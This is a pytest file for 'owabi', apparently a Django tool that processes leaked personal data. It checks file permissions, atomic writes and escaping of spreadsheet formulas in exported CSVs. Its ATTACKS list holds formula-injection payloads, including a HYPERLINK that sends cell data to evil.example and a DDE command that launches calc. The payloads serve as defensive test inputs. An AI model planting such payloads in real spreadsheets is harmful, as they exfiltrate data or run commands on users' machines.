"""Through the commands: every file owabi writes with leaked PII in it (or pointing at it) is 0600 in
a 0700 folder whatever the umask; every CSV shows a would-be formula as text; a killed writer leaves
no half file behind for the next step to read."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
from pathlib import Path

import pytest
from django.core.management import call_command

from owabi.records.services import import_file
from tests.conftest import OWABI, REPO

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.django_db
def test_export_clusters_writes_formulas_as_text_into_a_private_file(
    incident, tmp_path: Path, open_umask
) -> None:
    leak = tmp_path / "leak.csv"
    lines = [
        f'"{record_id.replace(chr(34), chr(34) * 2)}",山田 太郎{n}' for n, record_id in enumerate(ATTACKS)
    ]
    leak.write_text("record_id,氏名\n" + "\n".join([*lines, "A1,佐藤 花子"]) + "\n", encoding="utf-8")
    import_file(incident=incident, path=leak, actor="t")
    out = tmp_path / "exports" / "2026-12" / "clusters.csv"
    call_command("export", "clusters", "--incident", incident.slug, "--out", str(out))
    rows = _read(out)
    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + attack for attack in ATTACKS] + ["A1"])
    assert _mode(out) == 0o600
    assert _mode(out.parent) == _mode(out.parent.parent) == 0o700
    assert [p.name for p in out.parent.iterdir()] == ["clusters.csv"]  # no temp file left


@pytest.mark.django_db
def test_import_reports_are_private_and_show_a_formula_file_name_as_text(
    incident, tmp_path: Path, open_umask
) -> None:
    leak = tmp_path / "=1+2.csv"
    leak.write_text(
        "record_id,氏名,生年月日\n,山田 太郎,2001-02-03\nB2,山田 花子,2010-13-45\n", encoding="utf-8"
    )
    result = import_file(incident=incident, path=leak, actor="t")
    assert result.rejects_path == tmp_path / "=1+2.rejects.csv"
    assert result.warnings_path == tmp_path / "=1+2.warnings.csv"
    for report, field in ((result.rejects_path, "record_id"), (result.warnings_path, "subject_birth_date")):
        assert _mode(report) == 0o600
        [header, row] = _read(report)
        assert header == ["file", "line", "field", "reason"]
        assert row[:3] == ["'=1+2.csv", "2" if field == "record_id" else "3", field]


@pytest.mark.slow
def test_the_demo_leaves_every_file_private_whatever_the_umask(tmp_path: Path) -> None:
    """The whole pipeline as a developer runs it: dev secrets, SQLite, synthetic leak, outbox, letters."""
    data = tmp_path / "data"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OWABI_", "DATABASE_URL"))}
    env.update(OWABI_DATA_DIR=str(data), DJANGO_SETTINGS_MODULE="config.settings")
    run = subprocess.run(
        [*OWABI, "demo", "--people", "120", "--no-serve"],
        env=env,
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
        umask=0,
    )
    assert run.returncode == 0, run.stderr
    files = {p.relative_to(data).as_posix(): _mode(p) for p in data.rglob("*") if p.is_file()}
    folders = {p.relative_to(data).as_posix(): _mode(p) for p in data.rglob("*") if p.is_dir()}
    kinds = {
        "dev-secrets.json",
        "demo-staff.txt",
        "owabi.sqlite3",
        "demo/leak-120-7.csv",
        "demo/leak-120-7.truth.csv",
    }
    assert kinds <= files.keys()
    assert any(name.startswith("outbox/") for name in files)
    assert any(name.startswith("demo/letters/letters-") for name in files)
    assert any(name.startswith("demo/letters/manifest-") for name in files)
    assert {name: mode for name, mode in files.items() if mode != 0o600} == {}
    assert {name: mode for name, mode in folders.items() if mode != 0o700} == {}
    assert _mode(data) == 0o700


@pytest.mark.slow
def test_a_killed_synth_leaves_no_half_file_for_the_demo_to_import(tmp_path: Path) -> None:
    out = tmp_path / "leak.csv"
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings", "OWABI_DATA_DIR": str(tmp_path / "d")}
    synth = subprocess.Popen(
        [*OWABI, "synth", "--records", "2000000", "--seed", "1", "--out", str(out)],
        env=env,
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert synth.stderr is not None
        assert "records/s" in synth.stderr.readline()  # 100,000 rows written, not nearly all
    finally:
        synth.send_signal(signal.SIGKILL)
        synth.wait(timeout=30)
    assert not out.exists()
    assert not out.with_suffix(".truth.csv").exists()
    left = [p for p in tmp_path.iterdir() if p.is_file()]
    assert left and all(p.name.startswith(".leak.") and _mode(p) == 0o600 for p in left)
